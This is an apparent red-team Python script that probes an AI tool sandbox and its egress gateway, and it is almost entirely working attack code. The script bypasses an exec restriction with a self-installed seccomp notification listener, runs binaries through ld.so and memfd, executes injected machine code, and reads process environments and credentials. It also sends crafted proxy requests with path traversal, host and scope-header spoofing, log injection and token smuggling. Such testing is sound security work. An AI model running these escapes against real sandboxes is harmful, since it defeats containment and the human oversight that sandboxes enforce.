#!/usr/bin/env python3
"""Red-team workload: every probe prints one JSON line "RT {...}"."""
import ctypes, json, os, socket, struct, sys, threading, time, traceback

OUT = os.environ.get("MCPSIDECAR_OUTPUT_DIR", "/sandbox-output")
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def rt(name, **kw):
    kw["probe"] = name
    print("RT " + json.dumps(kw), flush=True)


def attempt(name, fn):
    try:
        r = fn()
        rt(name, ok=True, result=r)
    except Exception as e:
        rt(name, ok=False, err=f"{type(e).__name__}: {e}")


# ---------- seccomp nested listener: bypass the launcher's one-program rule ----------
SECCOMP_SET_MODE_FILTER = 1
SECCOMP_FILTER_FLAG_NEW_LISTENER = 8
NOTIF_RECV = 0xC0502100
NOTIF_SEND = 0xC0182101


class SockFprog(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]


def install_listener():
    ins = lambda c, jt, jf, k: struct.pack("HBBI", c, jt, jf, k)
    prog = (ins(0x20, 0, 0, 0) + ins(0x15, 2, 0, 59) + ins(0x15, 1, 0, 322)
            + ins(0x06, 0, 0, 0x7FFF0000) + ins(0x06, 0, 0, 0x7FC00000))
    buf = ctypes.create_string_buffer(prog, len(prog))
    fp = SockFprog(5, ctypes.addressof(buf))
    fd = libc.syscall(ctypes.c_long(317), ctypes.c_long(SECCOMP_SET_MODE_FILTER),
                      ctypes.c_long(SECCOMP_FILTER_FLAG_NEW_LISTENER), ctypes.byref(fp))
    if fd < 0:
        raise OSError(ctypes.get_errno(), "seccomp(NEW_LISTENER) " + os.strerror(ctypes.get_errno()))
    return fd


def answer_loop(fd, seen):
    while True:
        notif = ctypes.create_string_buffer(80)
        r = libc.ioctl(fd, ctypes.c_ulong(NOTIF_RECV), notif)
        if r < 0:
            e = ctypes.get_errno()
            if e in (4,):
                continue
            seen.append(("recv-end", e))
            return
        nid, pid = struct.unpack_from("QI", notif.raw, 0)
        nr = struct.unpack_from("i", notif.raw, 16)[0]
        seen.append(("exec", pid, nr))
        resp = ctypes.create_string_buffer(struct.pack("QqiI", nid, 0, 0, 1), 24)  # FLAG_CONTINUE
        libc.ioctl(fd, ctypes.c_ulong(NOTIF_SEND), resp)


def spawn_bypassed(argv, label):
    """fork; the child execs argv; our own listener answers CONTINUE."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        os.dup2(w, 1)
        os.dup2(w, 2)
        try:
            os.execv(argv[0], argv)
        except Exception as e:
            os.write(2, f"execv failed: {e}\n".encode())
        os._exit(99)
    os.close(w)
    out = b""
    while True:
        b = os.read(r, 65536)
        if not b:
            break
        out += b
    _, st = os.waitpid(pid, 0)
    return {"label": label, "argv": argv, "status": st, "output": out.decode(errors="replace")[-3000:]}


def attack_exec():
    # control: a plain execve in a forked child, without our listener
    def control():
        return spawn_bypassed(["/usr/bin/python3", "-c", "print('second python (control)')"], "control")
    attempt("exec.control_without_listener", control)
    try:
        fd = install_listener()
    except Exception as e:
        rt("exec.install_listener", ok=False, err=str(e))
        return
    rt("exec.install_listener", ok=True, fd=fd)
    seen = []
    threading.Thread(target=answer_loop, args=(fd, seen), daemon=True).start()
    ld = "/lib64/ld-linux-x86-64.so.2"
    tests = [
        (["/usr/bin/python3", "-c", "import os;print('SECOND PROGRAM python3 pid', os.getpid(), 'ppid', os.getppid())"], "python3-again"),
        ([ld, "/usr/bin/id"], "ldso-id"),
        ([ld, "/bin/sh", "-c", "echo SHELL $$; read l < /proc/self/status; echo $l; for f in /sandbox-output /tmp; do echo dir $f; done"], "ldso-sh"),
        ([ld, "/usr/bin/cat", "/proc/self/status"], "ldso-cat-status"),
        ([ld, "/bin/ls", "-la", "/", "/sandbox-output"], "ldso-ls"),
        (["/bin/sh", "-c", "echo direct sh"], "direct-sh(no exec right expected)"),
    ]
    for argv, label in tests:
        attempt("exec.bypass." + label, lambda a=argv, l=label: spawn_bypassed(a, l))
    # a program the workload WROTE: copy /usr/bin/id into a memfd and run it via ld.so and directly
    def memfd_prog():
        mfd = os.memfd_create("rt", 0)
        with open("/usr/bin/id", "rb") as f:
            os.write(mfd, f.read())
        res = {}
        res["direct"] = spawn_bypassed([f"/proc/self/fd/{mfd}"], "memfd-direct")
        res["ldso"] = spawn_bypassed([ld, f"/proc/self/fd/{mfd}"], "memfd-ldso")
        return res
    attempt("exec.bypass.memfd_written_program", memfd_prog)
    def tmp_prog():
        p = "/tmp/rt-id"
        with open("/usr/bin/id", "rb") as f, open(p, "wb") as g:
            g.write(f.read())
        os.chmod(p, 0o755)
        return {"direct": spawn_bypassed([p], "tmp-direct"), "ldso": spawn_bypassed([ld, p], "tmp-ldso")}
    attempt("exec.bypass.tmp_written_program", tmp_prog)
    time.sleep(0.2)
    rt("exec.listener_saw", seen=seen[:40])


# ---------- native code the workload wrote ----------
def attack_native():
    def memfd_lib():
        mfd = os.memfd_create("rtlib", 0)
        with open("/lib/x86_64-linux-gnu/libc.so.6", "rb") as f:
            os.write(mfd, f.read())
        l = ctypes.CDLL(f"/proc/self/fd/{mfd}")
        return {"getpid_from_written_copy": l.getpid()}
    attempt("native.memfd_written_libc_loaded", memfd_lib)
    for d in ("/tmp", "/sandbox-work", OUT):
        def f(d=d):
            p = os.path.join(d, "rtlibc.so")
            with open("/lib/x86_64-linux-gnu/libc.so.6", "rb") as s, open(p, "wb") as g:
                g.write(s.read())
            ctypes.CDLL(p)
            return "loaded"
        attempt("native.cdll_written." + d, f)
    def wx():
        import mmap
        m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        m.write(b"\x48\xc7\xc0\x2a\x00\x00\x00\xc3")  # mov rax,42; ret
        addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
        return ctypes.CFUNCTYPE(ctypes.c_long)(addr)()
    attempt("native.anon_wx", wx)


# ---------- filesystem ----------
def attack_fs():
    for p in ("/etc/rt", "/usr/rt", "/rt", "/.mcpsidecar/rt", "/var/rt", "/dev/shm/rt", "/run/rt", "/var/tmp/rt", "/home/rt"):
        def w(p=p):
            with open(p, "w") as f:
                f.write("x")
            return "written"
        attempt("fs.write" + p, w)
    for p in ("/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/var/lib/dpkg/status", "/etc/hostname",
              "/proc/net/if_inet6", "/proc/net/ipv6_route", "/proc/net/arp", "/proc/net/route", "/etc/hosts", "/proc/self/status",
              "/proc/1/status", "/sys/class/net/eth0/address", "/proc/sys/net/ipv6/conf/eth0/disable_ipv6"):
        def r(p=p):
            with open(p, "rb") as f:
                return f.read(3000).decode(errors="replace")
        attempt("fs.read" + p, r)
    attempt("fs.listdir_proc", lambda: sorted(x for x in os.listdir("/proc") if x.isdigit()))
    attempt("fs.env", lambda: {k: v for k, v in os.environ.items()})


# ---------- network ----------
def tcp(host, port, data=None, fam=socket.AF_INET, timeout=3):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((host, port) if fam == socket.AF_INET else (host, port, 0, socket.if_nametoindex("eth0") if host.startswith("fe80") else 0))
        if data is None:
            return "connected"
        s.sendall(data)
        out = b""
        try:
            while len(out) < 4000:
                b = s.recv(4000)
                if not b:
                    break
                out += b
        except socket.timeout:
            pass
        return out.decode(errors="replace")[:1500]
    finally:
        s.close()


def attack_net():
    for host, port in (("mcp-sidecar", 22), ("egress-gateway", 80), ("172.17.0.1", 8000), ("172.17.0.1", 3128), ("192.0.2.2", 8000),
                       ("10.255.255.53", 3128)):
        attempt(f"net.tcp.{host}:{port}", lambda h=host, p=port: tcp(h, p))
    # IPv6 link-local: the host's bridge on the internal network
    attempt("net.ipv6.socket", lambda: str(socket.socket(socket.AF_INET6, socket.SOCK_STREAM)))
    for a in ("fe80::1", "fe80::42:ff:fe00:1"):
        attempt(f"net.tcp6.{a}:8000", lambda a=a: tcp(a, 8000, fam=socket.AF_INET6))
    # gateway proxy port tricks (only targets on this machine)
    gw = "egress-gateway"
    reqs = {
        "connect_hdi_other_port": b"CONNECT host.docker.internal:8000 HTTP/1.1\r\nHost: host.docker.internal:8000\r\n\r\n",
        "connect_hdi_18099": b"CONNECT host.docker.internal:18099 HTTP/1.1\r\nHost: host.docker.internal:18099\r\n\r\n",
        "connect_literal_bridge": b"CONNECT 172.17.0.1:18443 HTTP/1.1\r\nHost: 172.17.0.1:18443\r\n\r\n",
        "connect_literal_mcp_as_agent": b"CONNECT 172.17.0.1:18081 HTTP/1.1\r\nHost: 172.17.0.1:18081\r\n\r\n",
        "get_literal_mcp_as_agent": b"GET http://172.17.0.1:18081/mcp HTTP/1.1\r\nHost: 172.17.0.1:18081\r\n\r\n",
        "get_mapped_v6_mcp": b"GET http://[::ffff:172.17.0.1]:18081/mcp HTTP/1.1\r\nHost: [::ffff:172.17.0.1]:18081\r\n\r\n",
        "get_hdi_18444_host_mismatch": b"GET http://host.docker.internal:18444/x HTTP/1.1\r\nHost: 127.0.0.1:18444\r\n\r\n",
        "connect_hdi_18443_ok": b"CONNECT host.docker.internal:18443 HTTP/1.1\r\nHost: host.docker.internal:18443\r\n\r\n",
        "connect_hdi_trailing_dot": b"CONNECT host.docker.internal.:18444 HTTP/1.1\r\n\r\n",
        "connect_hdi_upper": b"CONNECT HOST.DOCKER.INTERNAL:18444 HTTP/1.1\r\n\r\n",
        "get_gateway_self": b"GET http://egress-gateway:3129/host.docker.internal:18443/x HTTP/1.1\r\nHost: egress-gateway:3129\r\n\r\n",
        "scope_spoof": b"CONNECT 172.17.0.1:18081 HTTP/1.1\r\nHost: 172.17.0.1:18081\r\nProxy-Mcpsidecar-Scope: server=fx; tool=echo\r\n\r\n",
        "log_inject_host": b"CONNECT evil\\u000a.invalid:443 HTTP/1.1\r\n\r\n",
        "connect_localhost": b"CONNECT localhost:18443 HTTP/1.1\r\n\r\n",
        "connect_v6_loop": b"CONNECT [::1]:18443 HTTP/1.1\r\n\r\n",
    }
    for k, v in reqs.items():
        attempt("gw.proxy." + k, lambda v=v: tcp(gw, 3128, v, timeout=5))
    ph = os.environ.get("RT_SECRET", "")
    cred = {
        "ok": f"GET /host.docker.internal:18443/echo HTTP/1.1\r\nHost: egress-gateway:3129\r\nAuthorization: Bearer {ph}\r\nConnection: close\r\n\r\n",
        "other_host_redirector": f"GET /host.docker.internal:18444/echo HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nConnection: close\r\n\r\n",
        "path_trav": f"GET /host.docker.internal:18443/..%2f..%2fhost.docker.internal:18099/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nConnection: close\r\n\r\n",
        "at_in_path": f"GET /host.docker.internal:18443@127.0.0.1:18099/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nConnection: close\r\n\r\n",
        "double_slash": f"GET //host.docker.internal:18443/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nConnection: close\r\n\r\n",
        "options": f"OPTIONS /host.docker.internal:18443/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nConnection: close\r\n\r\n",
        "lower_method": f"get /host.docker.internal:18443/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nConnection: close\r\n\r\n",
        "conn_drop_auth": f"GET /host.docker.internal:18443/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nConnection: close, Authorization\r\n\r\n",
        "h2c_upgrade": f"GET /host.docker.internal:18443/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ph}\r\nUpgrade: h2c\r\nConnection: Upgrade, close\r\n\r\n",
    }
    for k, v in cred.items():
        attempt("gw.cred." + k, lambda v=v: tcp(gw, 3129, v.encode(), timeout=8))


def main():
    which = sys.argv[1:] or ["exec", "native", "fs", "net"]
    rt("start", which=which, pid=os.getpid(), uid=os.getuid())
    for w in which:
        try:
            globals()["attack_" + w]()
        except Exception:
            rt("crash." + w, tb=traceback.format_exc())
    rt("end")


if __name__ == "__main__":
    main()
